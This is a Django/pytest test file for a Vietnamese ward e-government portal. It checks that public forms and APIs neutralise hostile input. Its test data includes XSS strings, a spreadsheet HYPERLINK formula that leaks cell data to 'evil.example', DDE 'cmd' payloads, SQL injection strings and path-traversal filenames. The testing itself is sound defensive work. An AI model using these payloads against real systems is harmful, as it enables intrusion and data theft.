"""Hostile input through the public forms: script in free text, formulas in what ends up in a
spreadsheet, Unicode tricks, NUL characters and oversized text.

The ward is the authorisation matrix's world; a visitor types into the public forms and the
ward's leader reads the back office, the PDFs and the Excel exports."""

from __future__ import annotations

import io
import unicodedata
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from motcua.consultations.models import Comment
from motcua.contests.models import Entry
from motcua.contests.services import entry_submit
from motcua.dossiers.models import Dossier
from motcua.dossiers.tests.conftest import MINIMAL_PDF
from motcua.dossiers.tests.test_views import submission_data
from motcua.dossiers.workflow import dossier_transition
from motcua.feedback.models import Report
from motcua.feedback.tests.test_intake import form_data
from motcua.organisations.tests.helpers import sign_in
from motcua.security.tests.world import build_world

SCRIPT = '<script>alert("xss")</script><img src=x onerror=alert(1)>'
ESCAPED = "&lt;script&gt;alert(&quot;xss&quot;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


@pytest.fixture
def world(city):
    return build_world(city)


@pytest.fixture
def leader(world):
    return sign_in(Client(), world.users["leader"])


def file_report(world, **fields):
    response = Client().post(reverse("feedback:new"), form_data(world.ward, **fields))
    assert response.status_code == 302, response.content.decode()[:2000]
    return Report.objects.latest("pk")


def submit_dossier(world, **fields):
    version = world.procedure.versions.get()
    url = reverse("dossiers:submit", args=[world.procedure.slug])
    response = Client().post(url, submission_data(version, world.ward, **fields))
    assert response.status_code == 302, response.content.decode()[:2000]
    return Dossier.objects.latest("pk")


def comment_on_draft(world, **fields):
    data = {"section": "", "body": "Đồng ý với dự thảo.", "author_name": "", "contact": ""}
    url = reverse("consultations:detail", args=[world.consultation.slug])
    response = Client().post(url, {**data, **fields})
    assert response.status_code == 302, response.content.decode()[:2000]
    return Comment.objects.latest("pk")


def enter_contest(world, browser=None, **fields):
    data = {"full_name": "Lê Văn Tám", "phone": "0912000111", "ward": ""}
    url = reverse("contests:detail", args=[world.contest.slug])
    response = (browser or Client()).post(url, {**data, **fields})
    assert response.status_code == 302, response.content.decode()[:2000]
    return Entry.objects.latest("pk")


# Each public free-text field, and the pages that show what was typed into it: the ward
# leader's back-office pages, or the visitor's own page.
SHOWN = {
    "feedback description": (
        lambda w, _: file_report(w, description=SCRIPT),
        lambda r: [("leader", reverse("feedback:staff-detail", args=[r.code]))],
    ),
    "feedback reporter's name and address": (
        lambda w, _: file_report(w, reporter_name=SCRIPT, address=SCRIPT),
        lambda r: [("leader", reverse("feedback:staff-detail", args=[r.code]))],
    ),
    "dossier applicant's name and address": (
        lambda w, _: submit_dossier(w, name=SCRIPT, address=SCRIPT),
        lambda d: [
            ("leader", reverse("dossiers:staff-detail", args=[d.code])),
            ("leader", reverse("dossiers:queue") + "?queue=all"),
        ],
    ),
    "consultation comment": (
        lambda w, _: comment_on_draft(w, body=SCRIPT, author_name=SCRIPT),
        lambda c: [
            ("leader", reverse("consultations:staff-detail", args=[c.consultation.public_id]))
        ],
    ),
    "contest entrant's name": (
        lambda w, visitor: entry_submit(
            entry=enter_contest(w, visitor, full_name=SCRIPT), answers={}, guess=1
        ),
        lambda e: [("visitor", e.get_absolute_url())],
    ),
}


@pytest.mark.django_db
@pytest.mark.parametrize("field", SHOWN)
def test_script_typed_into_a_public_form_is_shown_as_text(field, world, leader):
    submit, pages = SHOWN[field]
    browsers = {"leader": leader, "visitor": Client()}
    record = submit(world, browsers["visitor"])
    for who, url in pages(record):
        html = browsers[who].get(url).content.decode()
        assert "<script>alert" not in html, url
        assert "onerror=alert(1)>" not in html, url
        assert ESCAPED in html, url


@pytest.mark.django_db
def test_script_in_a_published_report_and_comment_is_shown_as_text_on_the_portal(world):
    report = file_report(world, description=SCRIPT)
    Report.objects.filter(pk=report.pk).update(public_description=SCRIPT, status="accepted")
    comment = comment_on_draft(world, body=SCRIPT, author_name=SCRIPT)
    Comment.objects.filter(pk=comment.pk).update(status="published")
    for url in (
        reverse("feedback:detail", args=[report.code]),
        reverse("consultations:detail", args=[world.consultation.slug]),
    ):
        html = Client().get(url).content.decode()
        assert "<script>alert" not in html, url
        assert ESCAPED in html, url


def pdf_text(data: bytes) -> str:
    return " ".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


@pytest.mark.django_db
def test_the_reception_slip_prints_markup_in_a_name_as_literal_text(world, leader):
    dossier = submit_dossier(world, name="<b>Trần</b> <i>Thị</i> Bích", address=SCRIPT)
    dossier = dossier_transition(dossier=dossier, action="receive", actor=world.users["officer"])
    slip = dossier.slips.get()
    response = leader.get(reverse("dossiers:staff-slip", args=[dossier.code, slip.public_id]))
    text = " ".join(pdf_text(response.content).split())
    assert "<b>Trần</b> <i>Thị</i> Bích" in text
    assert "<script>alert" in text  # printed, as typed: a PDF runs no markup


@pytest.mark.django_db
@pytest.mark.parametrize(
    "typed",
    [FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\u200b=1+1"],
)
def test_a_formula_typed_by_a_citizen_stays_text_in_the_excel_register(world, leader, typed):
    submit_dossier(world, address=typed)
    response = leader.get(reverse("dossiers:register") + "?export=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
    stored = typed.replace("\u200b", "")
    (cell,) = [c for c in cells if c.value == stored]
    assert cell.data_type == "s"
    assert cell.quotePrefix


SQL_LIKE = [
    "' OR '1'='1",
    "1; DROP TABLE dossiers_dossier; --",
    "%' UNION SELECT password FROM accounts_user --",
    "\\'; SELECT pg_sleep(5); --",
]


@pytest.mark.django_db
@pytest.mark.parametrize("typed", SQL_LIKE)
def test_sql_like_input_is_searched_for_as_text(world, typed):
    visitor = Client()
    for url in (reverse("search:search"), reverse("procedures:catalogue")):
        assert visitor.get(url, {"q": typed}).status_code == 200, url
    assert visitor.get("/api/v1/procedures/", {"q": typed}).json()["count"] == 0
    lookup = visitor.get("/api/v1/dossiers/status", {"code": typed, "secret": typed})
    assert lookup.status_code == 404
    assert Dossier.objects.count() == 1  # the world's dossier, untouched


# --- Unicode ---------------------------------------------------------------------------------

PRECOMPOSED = "Nguyễn Thị Phượng, đường Lê Lợi"
COMBINING = unicodedata.normalize("NFD", PRECOMPOSED)
INVISIBLE = "Nguy\u200bễn Th\u200dị\ufeff Phượng\u202e, đường \u2066Lê Lợi\u2069"


@pytest.mark.django_db
@pytest.mark.parametrize("typed", [COMBINING, INVISIBLE], ids=["combining marks", "invisible"])
def test_vietnamese_typed_with_combining_marks_or_invisible_characters_is_stored_precomposed(
    world, leader, typed
):
    assert typed != PRECOMPOSED
    report = file_report(world, reporter_name=typed, description=typed)
    dossier = submit_dossier(world, name=typed)
    comment = comment_on_draft(world, body=typed)
    entry = enter_contest(world, full_name=typed)
    assert report.reporter_name == report.description == PRECOMPOSED
    assert dossier.applicant_name == comment.body == entry.full_name == PRECOMPOSED
    # The same person typed either way is one applicant for the register's name search.
    assert Dossier.objects.filter(applicant_name=PRECOMPOSED).count() == 1
    queue = leader.get(reverse("dossiers:queue"), {"queue": "all", "q": "Phượng"})
    assert dossier.code in queue.content.decode()


# --- Uploads ----------------------------------------------------------------------------------


def with_documents(world, name: str, data: bytes) -> dict:
    version = world.procedure.versions.get()
    return submission_data(
        version,
        world.ward,
        **{
            f"document_{d.pk}": SimpleUploadedFile(name, data, content_type="application/pdf")
            for d in version.documents.all()
        },
    )


@pytest.mark.django_db
@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd.pdf", "..\\..\\boot.ini.pdf", "giay\x00to.pdf.html", "ả" * 300 + ".pdf"],
    ids=["traversal", "windows-traversal", "nul", "long"],
)
def test_a_document_with_a_hostile_name_is_stored_under_a_safe_name(
    world, settings, tmp_path, name
):
    settings.MEDIA_ROOT = str(tmp_path)
    url = reverse("dossiers:submit", args=[world.procedure.slug])
    assert Client().post(url, with_documents(world, name, MINIMAL_PDF)).status_code == 302
    documents = Dossier.objects.latest("pk").documents.all()
    assert documents
    for document in documents:
        stored = Path(document.file.path).resolve()
        assert stored.is_relative_to(tmp_path.resolve())
        assert stored.name.endswith(".pdf")
        assert len(stored.name) <= 100
        assert "\x00" not in stored.name
        assert ".." not in document.file.name


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("data", "message"),
    [
        (MINIMAL_PDF + b"PK\x05\x06" + b"\x00" * 18, "tệp khác ẩn bên trong"),
        (b"<html><script>alert(1)</script></html>", "Loại tệp này không được chấp nhận"),
    ],
    ids=["pdf+zip", "html-named-pdf"],
)
def test_a_refused_document_is_named_in_a_clear_message_and_nothing_is_stored(
    world, settings, tmp_path, data, message
):
    settings.MEDIA_ROOT = str(tmp_path)
    url = reverse("dossiers:submit", args=[world.procedure.slug])
    before = Dossier.objects.count()
    response = Client().post(url, with_documents(world, "giay-khai-sinh.pdf", data))
    assert message in response.content.decode()
    assert Dossier.objects.count() == before
    assert not [p for p in tmp_path.rglob("*") if p.is_file()]


# --- NUL characters and oversized text --------------------------------------------------------


@pytest.mark.django_db
def test_a_nul_character_in_a_form_is_refused_with_a_clear_message(world):
    response = Client().post(
        reverse("feedback:new"), form_data(world.ward, description="Ổ gà\x00 trước nhà")
    )
    assert response.status_code == 400
    assert "ký tự NUL" in response.content.decode()
    assert not Report.objects.filter(description__contains="Ổ gà").exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/units/?parent=a%00b",
        "/api/v1/units/a%00b",
        "/api/v1/procedures/?q=a%00b",
        "/api/v1/dossiers/status?code=a%00b&secret=x",
    ],
)
def test_a_nul_character_in_an_api_call_is_a_problem_not_a_server_error(world, url):
    response = Client().get(url)
    assert response.status_code == 400
    assert response.json()["code"] == "nul_character"


@pytest.mark.django_db
def test_a_nul_character_in_a_json_body_is_refused(world):
    body = {"ward": world.ward.slug, "category": "lan-chiem-long-le-duong", "description": "a\x00"}
    response = Client().post("/api/v1/feedback/reports", body, content_type="application/json")
    assert (response.status_code, response.json()["code"]) == (400, "nul_character")


@pytest.mark.django_db
def test_oversized_text_is_refused_with_a_vietnamese_message_and_the_text_kept(world):
    typed = "Đèn đường hỏng. " * 400  # 6,400 characters, the limit is 5,000
    response = Client().post(reverse("feedback:new"), form_data(world.ward, description=typed))
    html = response.content.decode()
    assert response.status_code == 400
    assert "tối đa 5000 kí tự" in html
    assert typed.strip() in html  # what was typed comes back in the form
    assert not Report.objects.filter(description__startswith="Đèn đường").exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("field", "length"),
    [("applicant_name", 201), ("applicant_address", 301), ("idempotency_key", 65)],
)
def test_oversized_api_fields_are_a_validation_problem_naming_the_field(world, field, length):
    """On PostgreSQL these once reached the database and failed there (a server error); SQLite
    stored them whole."""
    data = {
        "procedure_code": world.procedure.code,
        "unit": world.ward.slug,
        "applicant_name": "Lê Thị Hoa",
        "applicant_phone": "0987654321",
        "idempotency_key": "api-1",
        field: "x" * length,
        "documents": [
            SimpleUploadedFile(f"{d.pk}.pdf", MINIMAL_PDF)
            for d in world.procedure.versions.get().documents.all()
        ],
    }
    response = Client().post("/api/v1/dossiers/", data)
    assert response.status_code == 422
    assert response.json()["errors"][0]["field"].endswith(field)


@pytest.mark.django_db
@pytest.mark.parametrize(("field", "length"), [("address_string", 301), ("first_name", 201)])
def test_oversized_open311_fields_are_refused_not_a_server_error(world, field, length):
    data = {
        "jurisdiction_id": world.ward.slug,
        "service_code": "lan-chiem-long-le-duong",
        "description": COMBINING,
        "address_string": "120 Nơ Trang Long",
        field: "x" * length,
    }
    response = Client().post("/open311/v2/requests.json", data)
    assert response.status_code == 400
    assert str(length - 1) in response.json()[0]["description"]
    assert not Report.objects.filter(channel="api").exists()


@pytest.mark.django_db
def test_open311_text_is_stored_precomposed(world):
    data = {
        "jurisdiction_id": world.ward.slug,
        "service_code": "lan-chiem-long-le-duong",
        "description": COMBINING,
        "address_string": "120 Nơ Trang Long",
        "first_name": INVISIBLE,
    }
    response = Client().post("/open311/v2/requests.json", data)
    assert response.status_code == 201, response.content.decode()
    report = Report.objects.get(channel="api")
    assert report.description == report.reporter_name == PRECOMPOSED
